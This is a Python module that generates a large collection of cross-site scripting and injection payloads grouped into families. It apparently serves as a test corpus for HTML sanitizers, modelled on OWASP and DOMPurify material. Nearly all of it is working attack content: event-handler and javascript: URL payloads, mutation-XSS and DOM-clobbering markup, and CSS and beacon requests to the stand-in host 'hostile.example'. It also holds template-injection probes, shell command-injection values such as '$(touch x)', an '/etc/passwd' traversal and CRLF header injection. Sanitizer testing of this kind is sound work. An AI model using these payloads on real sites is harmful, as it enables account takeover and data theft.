"""Payloads in families, rebuilt from what is publicly known: vectors, contexts and spellings put together.

Families follow the OWASP filter evasion cheat sheet, DOMPurify's and html5lib's test suites (by kind, not by text) and
the usual torture for YAML, encodings and paths. Every payload that ran would open a dialog or ask ``HOST`` for
something; ``fire`` is what it would run.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from itertools import product

HOST = "hostile.example"
FIRE = f"alert(1);new Image().src='//{HOST}/x'"
QUOTED = FIRE.replace("'", "&#39;")
IMAGE = f'<img src=x onerror="{QUOTED}">'
BASE64 = base64.b64encode(f"<script>{FIRE}</script>".encode()).decode()

EVENTS = (
    ("img", "src=x", "onerror"), ("img", "src=data:image/gif;base64,R0lGODlhAQABAAAAACw=", "onload"),
    ("image", "src=x", "onerror"), ("body", "", "onload"), ("body", "", "onpageshow"), ("body", "", "onhashchange"),
    ("svg", "", "onload"), ("svg/", "", "onload"), ("iframe", "src=about:blank", "onload"), ("object", "data=x", "onerror"),
    ("embed", "src=x", "onload"), ("video", "src=x", "onerror"), ("audio", "src=x", "onerror"), ("details", "open", "ontoggle"),
    ("input", "autofocus", "onfocus"), ("select", "autofocus", "onfocus"), ("textarea", "autofocus", "onfocus"),
    ("button", "autofocus", "onfocus"), ("a", "href=x autofocus", "onfocus"), ("p", "autofocus tabindex=0", "onfocus"),
    ("marquee", "loop=1", "onstart"), ("marquee", "loop=1 width=0", "onfinish"), ("link", "rel=stylesheet href=x", "onerror"),
    ("script", "src=x", "onerror"), ("style", "", "onload"), ("track", "src=x", "onerror"), ("frameset", "", "onload"),
    ("p", "style=animation-name:x", "onanimationstart"), ("p", "style=transition:1s", "ontransitionend"),
    ("xss", "id=x tabindex=1", "onfocusin"), ("p", "contenteditable autofocus", "onbeforeinput"), ("math", "href=x", "onclick"),
    ("dialog", "open", "onclose"), ("p", "popover", "onbeforetoggle"), ("p", "", "onmouseover"), ("p", "", "onwheel"),
    ("table", "", "onscroll"), ("video controls", "", "onloadstart"), ("source", "src=x", "onerror"), ("bgsound", "", "onpropertychange"),
)  # fmt: skip
"""Element, what makes it fire, event."""
EVENT_FORMS = (
    '<{tag} {how} {event}="{fire}">x', "<{TAG} {how} {EVENT}='{fire2}'>x", "<{tag}/{how}/{event}=alert(1)>x",
    "<{tag}\n{how}\n{event}\n=\nalert(1)>x", "<{tag} {how} {event}=alert`1`>x", '<{tag} {how} {event}="{fire}" x="',
    '<p title="<{tag} {how} {event}=alert(1)>">x</p>', "<<{tag} {how} {event}=alert(1)//<x",
)  # fmt: skip

SPELLINGS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "javascript\t:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)", "javascript&colon;alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script&colon;alert(1)",
    "&#1;javascript:alert(1)", "javascript:%61lert(1)", "javascript:\\u0061lert(1)", "javascript://hostile.example/%0aalert(1)",
    "java\x00script:alert(1)", "vbscript:msgbox(1)", "livescript:alert(1)", "feed:javascript:alert(1)", "view-source:javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", f"data:text/html;base64,{BASE64}", f"DATA:text/html;charset=utf-8;base64,{BASE64}",
    "data:image/svg+xml,<svg onload=alert(1) xmlns=http://www.w3.org/2000/svg>", "data:application/xhtml+xml,<x/>", "mhtml:x!y",
    "blob:https://hostile.example/x", "filesystem:https://hostile.example/x", "about:srcdoc", "ms-its:x", "\u200bjavascript:alert(1)",
)  # fmt: skip
CARRIERS = (
    '<a href="{}">x</a>', '<iframe src="{}"></iframe>', '<object data="{}"></object>', '<embed src="{}">', '<img src="{}">',
    '<form action="{}"><input type=submit autofocus></form>', '<button formaction="{}">x</button>', '<area href="{}">',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>', '<math href="{}">x</math>', '<base href="{}//"><img src=x>',
    '<meta http-equiv=refresh content="0;url={}">', '<link rel=stylesheet href="{}">', '<body background="{}">',
    '<video poster="{}">', '<svg><use href="{}" /></svg>', '<svg><animate attributeName=href values="{}" /></svg>',
    '<p style="background:url({})">x</p>',
)  # fmt: skip

POINTS = (
    "<math><mtext>", "<math><mi>", "<math><annotation-xml encoding=text/html>", "<svg><desc>", "<svg><title>",
    "<svg><foreignObject>", "<math><mtext><table><mglyph>", "<form><math><mtext></form><form><mglyph>", "<table>", "<select>",
    "<svg><p>", "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext>",
)  # fmt: skip
"""Where one parser's idea of the namespace may differ from another's."""
RAW = (
    "style",
    "title",
    "noscript",
    "xmp",
    "noembed",
    "noframes",
    "iframe",
    "textarea",
    "script",
    "template",
    "plaintext",
)
BREAKS = ("<{raw}><!--</{raw}>{image}-->", '<{raw}><a title="</{raw}>{image}">', "<{raw}>{image}</{raw}>{image}")

COMMENTS = (
    "<!-->{}-->", "<!--->{}-->", "<!--x--!>{}-->", "<!-- --\x3e{}", "<!>{}", "<?x >{}?>", "<![CDATA[>{}]]>", "<!DOCTYPE x [{}]>",
    "<svg><![CDATA[</svg>{}]]>", "<!--[if gte IE 4]>{}<![endif]-->", "<!-- `'\" -->{}", "</ {}>", "</x {}>", "<%{}%>", "<x:y>{}",
    "<!--{}", "<!-{}", "<a/{}", "<![if true]>{}",
)  # fmt: skip
TAGS = (
    '<img """>{}"\\>', "<img src=x:x onerror=alert(1)//", "<img src='x' onerror='alert(1)' '>", "<img/src=`x`onerror=alert(1)>",
    "<im\x00g src=x onerror=alert(1)>", "<img src=x\x00 onerror=alert(1)>", "<img src=x \x0bonerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<scr\x00ipt>alert(1)</script>", "<script\x20type=text/javascript>alert(1);</script>",
    "<script/x>alert(1)</script>", "<script>alert(1)</script\n>", "<script>alert(1)//", "<SCRIPT SRC=//hostile.example/x></SCRIPT>",
    "<script src=data:,alert(1)></script>", "<script type=module>alert(1)</script>", "<script nomodule>alert(1)</script>",
    "<script async src=//hostile.example></script>", "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><script xlink:href=data:,alert(1) />", "<svg><set onbegin=alert(1) attributeName=x dur=1>", "<svg><animate onbegin=alert(1) dur=1>",
    "<svg><image href=x onerror=alert(1)>", "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe srcdoc='<img src=x onerror=parent.alert(1)>'></iframe>", "<iframe srcdoc='&lt;script>parent.alert(1)&lt;/script>'>",
    "<object type=text/x-scriptlet data=//hostile.example>", "<applet code=x codebase=//hostile.example>", "<isindex action=javascript:alert(1)>",
    "<keygen autofocus onfocus=alert(1)>", "<layer src=//hostile.example></layer>", "<bgsound src=//hostile.example>",
    "<link rel=import href=//hostile.example>", "<link rel=prefetch href=//hostile.example>", "<meta charset=utf-7>+ADw-script+AD4-alert(1)",
    "<portal src=//hostile.example>", "<fencedframe></fencedframe>", "<img srcset='//hostile.example/x 1x'>", "<img ping=//hostile.example src=x>",
    "<a ping=//hostile.example href=x>x</a>", "<video src=//hostile.example autoplay>", "<audio autoplay src=//hostile.example>",
    "<input type=image src=//hostile.example>", "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<div><template shadowrootmode=open><style>@import '//hostile.example'</style></template></div>", "<slot onslotchange=alert(1)>",
    "<noscript><img src=//hostile.example></noscript>", "<picture><source srcset=//hostile.example><img src=x></picture>",
    "<table background=//hostile.example><td background=//hostile.example>x", "<frameset><frame src=javascript:alert(1)></frameset>",
    "<html manifest=//hostile.example onload=alert(1)>", "<head onload=alert(1)>", "<svg><style>@import '//hostile.example'</style>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x", "<xml id=x><a><b>&lt;script>alert(1)&lt;/script></b></a></xml>",
    "<body oninput=alert(1)><input autofocus>", "<img usemap=#m src=x><map name=m><area href=javascript:alert(1)></map>",
)  # fmt: skip
STYLES = (
    "<style>@import '//hostile.example/x';</style>", "<style>*{{background:url(//hostile.example/x)}}</style>", "<style>{}</style>",
    "<p style=\"background:url('//hostile.example/x')\">x", "<p style='width:expression(alert(1))'>x", "<p style='behavior:url(x.htc)'>x",
    "<p style='-moz-binding:url(//hostile.example/x#y)'>x", "<p style='position:fixed;inset:0;z-index:9'><a href=x>x</a>",
    "<p style='background:\\75rl(//hostile.example/x)'>x", "<p style='content:image-set(\"//hostile.example/x\" 1x)'>x",
    "<style><!--</style>{}-->", "<style></style >{}", "<p style=\"font-family:'x;}}*{{background:url(//hostile.example/x)'\">x",
    "<link rel=stylesheet href=//hostile.example/x>", "<div class='masthead skip body' id=main style=display:block>x</div>",
    "<style>@font-face{{font-family:x;src:url(//hostile.example/x)}}body{{font-family:x}}</style>x", "<p style=x:&#58;url(//hostile.example)>x",
    "<svg><rect fill=url(//hostile.example/x#y) width=9 height=9>", "<p style='cursor:url(//hostile.example/x),auto'>x",
)  # fmt: skip
CLOBBERED = ("location", "cookie", "body", "forms", "getElementById", "createElement", "currentScript", "domain", "defaultView",
             "documentElement", "querySelector", "attributes", "nodeName", "parentNode", "innerHTML", "main")  # fmt: skip
CLOBBERS = ('<a id={0}>x</a><a href="#{0}">y</a>', "<form name={0}><input id={0} name={0}></form>", "<img name={0} src=x><img name={0} id={0} src=x>",
            "<iframe name={0}></iframe>", '<a id={0}></a><a id={0} name=x href="//hostile.example">x</a>')  # fmt: skip
CONTEXTS = (
    '">{}', "'>{}", "`>{}", "-->{}", "]]>{}", "</title>{}", "</textarea>{}", "</style>{}", "</script>{}", "</noscript>{}", "</template>{}",
    "</svg>{}", "</math>{}", "</div></div></main>{}", "&lt;/p&gt;{}", '\\">{}', "\u2028{}", "{{{{7*7}}}}{}", "{{% raw %}}{}", "${{7*7}}{}", "<%= 7*7 %>{}",
    "{{{{''.__class__.__mro__}}}}{}", "{{0.__class__}}{}", "%(x)s%n{}", "{{filename}}/etc/passwd{}", "{{static}}x.png{}", "{{tag}}x{}",
    "|filename|../x{}", "|tag|x{}", "{{attach}}x{}", "[x](javascript:alert(1)){}", "![x](//hostile.example/x){}", "<javascript:alert(1)>{}",
    "$(touch x){}", "`touch x`{}", ";touch x;{}", "\r\nSet-Cookie: x{}", "'-alert(1)-'{}", '";alert(1)//{}', "&quot;&gt;{}", "#{{7*7}}{}", "*{{7*7}}{}",
)  # fmt: skip
"""What would end the place in which a text stands, in HTML, feeds, scripts, templates, Markdown and shells."""
ENCODED = (
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u2039script\u203aalert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)", "\\x3cscript\\x3ealert(1)",
    "\\u003cscript\\u003ealert(1)", "&#60script&#62alert(1)", "&#x3c;script&#x3e;alert(1)", "\x1b$B<script>alert(1)</script>\x1b(B",
    "<\u017fcript>alert(1)</\u017fcript>", "<script>alert(1)</\u017fcript>", "\u202e<tpircs>", "\ufeff<script>alert(1)</script>",
    "\ufffd<script>alert(1)</script>", "&NotEqualTilde;<script>alert(1)</script>", "\u0338<script>alert(1)</script>", "<scrıpt>alert(1)</scrıpt>",
    "\x00<script>alert(1)</script>", "&#0;<script>alert(1)</script>", "&#xD800;<script>alert(1)</script>", "<\x00script>alert(1)</script>",
)  # fmt: skip
TREES = (
    "<a><table><a>{}</table></a>", "<b><p>{}</b></p>", "<p><b><i><u>{}</p>x", "<table><tr>{}<td>x</table>", "<table><caption>{}</table>",
    "<select><option>{}</select>", "<select><table>{}</select>", "<button><p><button>{}", "<form><table><form>{}</table></form>", "<frameset>{}</frameset>",
    "<h1><h2>{}</h1>", "<ul><li><ul></li>{}</ul>", "<dl><dt>{}<dd>x</dl>", "<ruby><rt>{}<rp>x</ruby>", "<pre>\n\n{}</pre>", "<textarea>\n{}</textarea>",
    "<nobr><nobr>{}", "<center><a><font>{}</center>", "<marquee><a>{}</marquee>", "<applet><p>{}</applet>", "<body><body {}>", "<html><html>{}",
    "<colgroup>{}</colgroup>", "<table><colgroup>{}<col></table>", "<p><table>{}</p></table>", "<svg><p>{}</svg>", "<math><p>{}</math>",
    "<svg><b>{}</svg></b>", "<template><tr>{}</template>", "<table><template>{}</table>", "<svg><template>{}</template></svg>", "<isindex prompt='{}'>",
    "<listing>{}</listing>", "<xmp>{}</xmp>", "<plaintext>{}", "<b id=a><b id=b><b id=c><b id=d><p>{}", "<image>{}", "<menuitem>{}", "<summary>{}</details>",
    "<svg><desc><svg><foreignObject>{}", "<math><annotation-xml><svg>{}", "<math><annotation-xml encoding='application/xhtml+xml'>{}", "<object><param>{}</object>",
)  # fmt: skip
"""Markup whose tree is not what it looks like: adoption, foster parents, implied ends, foreign content."""


def families() -> Iterator[tuple[str, str]]:
    """Family and payload, 1,635 of them."""
    for (tag, how, event), form in product(EVENTS, EVENT_FORMS):
        names = {"tag": tag, "TAG": tag.upper(), "how": how, "event": event, "EVENT": event.upper()}
        yield "event", form.format(fire=QUOTED, fire2="alert(1)", **names)
    yield from (("address", carrier.format(spelling)) for carrier, spelling in product(CARRIERS, SPELLINGS))
    for point, raw, form in product(POINTS, RAW, BREAKS):
        yield "mutation", point + form.format(raw=raw, image=IMAGE)
    yield from (("comment", form.format(IMAGE)) for form in COMMENTS)
    yield from (("tag", form.format(IMAGE)) for form in TAGS)
    yield from (("style", form.format(IMAGE)) for form in STYLES)
    yield from (("clobber", form.format(name)) for form, name in product(CLOBBERS, CLOBBERED))
    yield from (
        ("context", form.format(image)) for form, image in product(CONTEXTS, (IMAGE, "<script>alert(1)</script>"))
    )
    yield from (("encoding", text) for text in ENCODED)
    yield from (("tree", form.format(IMAGE)) for form in TREES)


PAYLOADS = tuple(dict.fromkeys(families()))
"""All of them, each once."""
